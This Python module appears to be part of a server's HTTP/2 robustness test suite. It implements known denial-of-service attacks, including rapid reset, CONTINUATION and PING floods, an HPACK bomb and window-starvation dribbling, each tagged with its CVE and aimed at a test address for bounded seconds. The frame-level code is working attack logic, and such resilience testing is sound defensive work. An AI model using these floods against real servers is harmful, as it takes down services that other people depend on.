"""The attacks on HTTP/2 of tests/vectors/h2/abuse.json that one connection after the other can make: each takes the address
of a door and the seconds that it may last, and says in the words of docs/http2.md what came of it.

All are bounded in time, in connections and in what they hold in memory, and go to the loopback.
"""

from __future__ import annotations

import struct
import time
from collections.abc import Callable
from contextlib import ExitStack
from functools import partial
from itertools import count, islice, repeat
from typing import Final

from tests import asking
from tests.h2_client import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PRIORITY,
    PUSH_PROMISE,
    Client,
    Header,
    Poured,
    call_headers,
    flood,
    frame,
    grpc_message,
    plain_block,
    reset,
    settings,
    window_update,
)

Attack = Callable[[str, float], str]
Chunks = Callable[[], bytes | None]

PER_CHUNK: Final = 200
"""Streams whose frames go into one write."""
STREAMS: Final = 1_000_000
"""On one connection: far above what a flood of seconds comes to, and below the end of the numbers."""
CALL: Final = plain_block(call_headers())
ASKED: Final = grpc_message(bytes(asking.check_request()))
LARGEST_WINDOW: Final = 2**31 - 1
LARGEST_MESSAGE: Final = 4 * 1024 * 1024
BRIEF_S: Final = 0.15
WITHHOLDERS: Final = 16
WITHHELD: Final = (*[LARGEST_MESSAGE - 1] * 4, *[1 << 17] * 4, *[1 << 10] * 16)
"""On each of these connections. Together a little more than the 256 MiB that the native front reads at once."""


def _streams(of_stream: Callable[[int], bytes]) -> Callable[[], Chunks]:
    """Chunks of the frames of ever new streams."""

    def begin() -> Chunks:
        numbers = iter(range(1, 2 * STREAMS, 2))

        def chunk() -> bytes | None:
            return b"".join(map(of_stream, islice(numbers, PER_CHUNK))) or None

        return chunk

    return begin


def _once(first: bytes, then: bytes) -> Callable[[], Chunks]:
    """A beginning, and the same chunk for ever."""

    def begin() -> Chunks:
        chunks = (part for parts in ([first], repeat(then)) for part in parts)
        return lambda: next(chunks)

    return begin


def _begin(stream: int, *, flags: int = END_HEADERS, block: bytes = CALL) -> bytes:
    return frame(HEADERS, flags, stream, block)


def _together(*runs: Poured) -> str:
    """What several forms of one attack came to: every outcome, once."""
    return " or ".join(sorted({part for run in runs for part in run.outcome.split(" or ")}))


# ---- streams that are begun and dropped -------------------------------------------------------------------


def rapid_reset(address: str, seconds: float) -> str:
    """CVE-2023-44487."""
    whole = END_HEADERS | END_STREAM
    return flood(
        address, _streams(lambda stream: _begin(stream, flags=whole) + reset(stream)), seconds=seconds
    ).outcome


def unread_resets(address: str, seconds: float) -> str:
    """RUSTSEC-2023-0034 and RUSTSEC-2024-0003: calls that are dropped before anybody accepts them, in one burst."""
    pairs = _streams(lambda stream: _begin(stream) + reset(stream))
    return flood(address, pairs, seconds=seconds, reading=False).outcome


def made_to_reset(address: str, seconds: float) -> str:
    """CVE-2025-8671: the server is brought to reset what it has begun to work on."""
    body = frame(DATA, END_STREAM, 0, ASKED)[9:]
    whole = struct.pack(">BHBB", 0, len(body), DATA, END_STREAM)
    forms = (
        lambda stream: _begin(stream) + window_update(stream, 0),
        lambda stream: _begin(stream) + window_update(stream, LARGEST_WINDOW),
        lambda stream: (
            _begin(stream) + whole + struct.pack(">I", stream) + body + frame(DATA, 0, stream, b"x")
        ),
        lambda stream: _begin(stream) + frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 1)),
    )
    return _together(*(flood(address, _streams(form), seconds=seconds / len(forms)) for form in forms))


def reset_flood(address: str, seconds: float) -> str:
    """CVE-2019-9514: requests that are none, each worth a reset, and nobody reads the resets."""
    bad = plain_block(call_headers(changed={":path": ""}))
    upper = plain_block(call_headers(more=[("X-Upper", "1")]))
    return _together(
        *(
            flood(address, _streams(partial(_begin, block=block)), seconds=seconds / 2, reading=False)
            for block in (bad, upper)
        )
    )


def stream_flood(address: str, seconds: float) -> str:
    """Calls that are begun and left open, more than the server said it takes."""
    return flood(address, _streams(_begin), seconds=seconds).outcome


# ---- frames that cost nothing to send ---------------------------------------------------------------------


def continuation_flood(address: str, seconds: float) -> str:
    """CVE-2024-27316 and RUSTSEC-2024-0332: a header block without an end, of much and of nothing."""
    first = frame(HEADERS, 0, 1, CALL)
    much = frame(CONTINUATION, 0, 1, plain_block([("x-filler", "y" * 8_000)] * 2)[:16_000])
    nothing = frame(CONTINUATION, 0, 1) * 1_000
    return _together(*(flood(address, _once(first, then), seconds=seconds / 2) for then in (much, nothing)))


def ping_flood(address: str, seconds: float) -> str:
    """CVE-2019-9512: nobody reads the answers."""
    return flood(
        address, _once(b"", frame(PING, 0, 0, b"8 octets") * 1_000), seconds=seconds, reading=False
    ).outcome


def settings_flood(address: str, seconds: float) -> str:
    """CVE-2019-9515: nobody reads the answers."""
    return flood(address, _once(b"", settings() * 1_000), seconds=seconds, reading=False).outcome


def empty_frames(address: str, seconds: float) -> str:
    """CVE-2019-9518: frames of nothing on an open stream, and a push that no client may promise."""
    nothing = frame(DATA, 0, 1) * 1_000
    promise = frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + CALL)
    return _together(
        flood(address, _once(_begin(1), nothing), seconds=seconds * 2 / 3),
        flood(address, _once(_begin(1), promise), seconds=seconds / 3),
    )


# ---- headers ----------------------------------------------------------------------------------------------


def empty_headers(address: str, seconds: float) -> str:
    """CVE-2019-9516: names and values of nothing, many of them in each call."""
    block = CALL + plain_block([("", "")] * 200)
    return flood(address, _streams(lambda stream: _begin(stream, block=block)), seconds=seconds).outcome


def hpack_bomb(address: str, seconds: float, *, acknowledged: bool = True) -> str:
    """CVE-2016-6581: one entry of the table, named thousands of times in a few bytes."""
    name, value = b"x-bomb", b"b" * 3_900
    entry = b"\x40" + plain_block([(name, value)])[1:]
    first = _begin(1, flags=END_HEADERS | END_STREAM, block=CALL + entry)
    named = b"\xbe" * 15_000

    def begin() -> Chunks:
        numbers = count(3, 2)
        sent = iter([first])

        def chunk() -> bytes | None:
            stream = next(numbers)
            again = _begin(stream, flags=END_HEADERS | END_STREAM, block=CALL + named)
            return next(sent, b"") + again

        return chunk

    return flood(address, begin, seconds=seconds, acknowledged=acknowledged).outcome


def hpack_bomb_at_once(address: str, seconds: float) -> str:
    """The same by a client that does not say that it knows the server's limits. Brief: it may cost much memory."""
    return hpack_bomb(address, min(seconds, BRIEF_S), acknowledged=False)


def _with_metadata(address: str, headers: list[Header], *, acknowledged: bool) -> str:
    with Client(address, polite=acknowledged) as client:
        if acknowledged:
            client.settled()
        return client.call(ASKED, headers=call_headers(more=headers)).outcome


def huge_metadata(address: str, seconds: float, *, acknowledged: bool = True) -> str:
    """One header of a MiB, and ten thousand small ones: one call each."""
    del seconds
    one: list[Header] = [("x-large", "y" * (1 << 20))]
    many: list[Header] = [(f"x-{n}", "y") for n in range(10_000)]
    told = {_with_metadata(address, headers, acknowledged=acknowledged) for headers in (one, many)}
    return " or ".join(sorted(told))


# ---- answers that nobody takes ----------------------------------------------------------------------------


def _asking(stream: int) -> bytes:
    return _begin(stream) + frame(DATA, END_STREAM, stream, ASKED)


def dribble(address: str, seconds: float) -> str:
    """CVE-2019-9511: each answer is taken a byte at a time, many at once."""

    def begin() -> Chunks:
        asked = b"".join(_asking(stream) for stream in range(1, 1_000, 2))
        dribbled = b"".join(window_update(stream, 1) for stream in range(1, 1_000, 2))
        return _once(asked, dribbled)()

    return flood(address, begin, seconds=seconds, values={INITIAL_WINDOW_SIZE: 1}).outcome


def unread_answers(address: str, seconds: float) -> str:
    """CVE-2019-9517: HTTP/2's window is wide open, and TCP's is shut."""
    poured = Poured(connections=1)
    with Client(address, values={INITIAL_WINDOW_SIZE: LARGEST_WINDOW}, receive_buffer=4_096) as client:
        client.send(window_update(0, LARGEST_WINDOW - 65_535))
        client.pour(_streams(_asking)(), poured, until=time.monotonic() + seconds, reading=False)
    return poured.outcome


def withheld(address: str, seconds: float) -> str:
    """Ours: messages of the largest size, on many connections at once, of each all but the end; then parts of messages, ever
    smaller ones, until whatever holds them is full to the brim."""
    message = grpc_message(b"\0" * LARGEST_MESSAGE)
    poured, until = Poured(), time.monotonic() + seconds
    with ExitStack() as stack:
        for _ in range(WITHHOLDERS):
            client = stack.enter_context(Client(address))
            client.settled()
            poured.connections += 1
            for size in WITHHELD:
                stream = client.stream()
                if not client.begin(stream, call_headers()):
                    break
                client.push(stream, message[:size], end=False)
            while (seen := client.receive(0.001)) is not None:
                client.show(seen, poured)
            poured.closed += client.closed
        time.sleep(max(0.0, until - time.monotonic()))
    return poured.outcome


ATTACKS: Final[dict[str, Attack]] = {
    "rapid reset": rapid_reset,
    "MadeYouReset": made_to_reset,
    "CONTINUATION flood": continuation_flood,
    "reset queue memory": unread_resets,
    "PING flood": ping_flood,
    "SETTINGS flood": settings_flood,
    "reset flood": reset_flood,
    "data dribble": dribble,
    "zero-length headers leak": empty_headers,
    "internal data buffering": unread_answers,
    "empty frames flood": empty_frames,
    "HPACK bomb": hpack_bomb,
    "huge metadata": huge_metadata,
    "stream flood": stream_flood,
    "withheld messages": withheld,
    "HPACK bomb, limits not acknowledged": hpack_bomb_at_once,
    "huge metadata, limits not acknowledged": partial(huge_metadata, acknowledged=False),
}
"""By their names in the vector file. The others hold connections, or need TLS: they are tests of their own."""
